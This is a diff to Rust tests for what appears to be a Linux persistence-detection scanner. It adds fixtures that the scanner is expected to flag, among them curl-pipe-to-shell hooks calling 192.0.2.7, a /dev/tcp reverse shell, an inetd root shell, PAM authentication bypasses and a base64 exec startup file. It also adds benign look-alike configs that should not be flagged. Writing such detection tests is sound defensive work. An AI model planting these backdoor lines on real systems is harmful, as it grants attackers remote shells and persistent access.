@@ -247,6 +247,92 @@ fn what_comes_back() {
             "persistence-kernel-module",
             Severity::High,
         ),
+        (
+            "/etc/inetd.conf",
+            "31337 stream tcp nowait root /bin/sh sh -i\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        (
+            "/etc/xinetd.d/chat",
+            "service chat\n{\n  server = /bin/bash\n}\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        (
+            "/etc/xinetd.d/time",
+            "service time\n{\n  server = /usr/sbin/timed\n}\n",
+            "persistence-hook",
+            Severity::Medium,
+        ),
+        (
+            "/etc/logrotate.d/app",
+            "/var/log/app {\n postrotate\n  curl http://192.0.2.7|sh\n endscript\n}\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        (
+            "/etc/network/if-up.d/x",
+            "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/1 0>&1\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        (
+            "/etc/dpkg/dpkg.cfg.d/x",
+            "post-invoke=\"curl http://192.0.2.7|sh\"\n",
+            "persistence-package-hook",
+            Severity::Critical,
+        ),
+        (
+            "/etc/systemd/system-generators/x",
+            "#!/bin/sh\n/usr/bin/x\n",
+            "persistence-systemd",
+            Severity::High,
+        ),
+        (
+            "/root/.gitconfig",
+            "[core]\n\tfsmonitor = \"curl http://192.0.2.7|sh\"\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        (
+            "/root/.gitconfig",
+            "[core]\n\thooksPath = /dev/shm/hooks\n",
+            "persistence-hook",
+            Severity::High,
+        ),
+        (
+            "/root/.ssh/config",
+            "Host *\n  ProxyCommand /tmp/x %h\n",
+            "persistence-hook",
+            Severity::High,
+        ),
+        (
+            "/etc/bash_completion.d/x",
+            "curl -s http://192.0.2.7 | bash\n",
+            "persistence-hook",
+            Severity::Critical,
+        ),
+        ("/etc/nsswitch.conf", "passwd: files helper\n", "persistence-hook", Severity::Medium),
+        (
+            "/usr/lib/python3/sitecustomize.py",
+            "import base64\nd = base64.b64decode('cA==')\nexec(d)\n",
+            "persistence-python-startup",
+            Severity::High,
+        ),
+        ("/etc/ssh/sshd_config", "PermitRootLogin=yes\n", "persistence-ssh-key", Severity::High),
+        (
+            "/etc/pam.d/common-auth",
+            "auth [success=done default=ignore] pam_permit.so\nauth required pam_unix.so\n",
+            "persistence-pam",
+            Severity::High,
+        ),
+        (
+            "/etc/pam.d/login",
+            "auth [success=1 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
+            "persistence-pam",
+            Severity::Medium,
+        ),
     ] {
         let found = findings(&written(&[(&path[1..], text)]));
         severity(&found, id, path, wanted);
@@ -283,6 +369,24 @@ fn what_only_looks_so() {
             Member::file("var/lib/postgresql/data/base/1/112", "x"),
             Member::file("var/log/app.log", "started\n"),
             Member::file("tmp/npm-cache/x.json", "{}"),
+            Member::file("root/.gitconfig", "[user]\n\tname = a\n[credential]\n\thelper = store\n"),
+            Member::file(
+                "root/.ssh/config",
+                "Host *\n  ProxyCommand nc -X connect -x p:3128 %h %p\n",
+            ),
+            Member::file(
+                "etc/nsswitch.conf",
+                "passwd: files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
+            ),
+            Member::file(
+                "etc/logrotate.d/nginx",
+                "/var/log/nginx/*.log {\n postrotate\n  invoke-rc.d nginx rotate\n endscript\n}\n",
+            ),
+            Member::file("etc/dpkg/dpkg.cfg.d/x", "force-unsafe-io\n"),
+            Member::file(
+                "etc/bash_completion.d/kubectl",
+                "__start_kubectl() {\n  eval \"$x\"\n}\n",
+            ),
         ],
         &[],
     ));
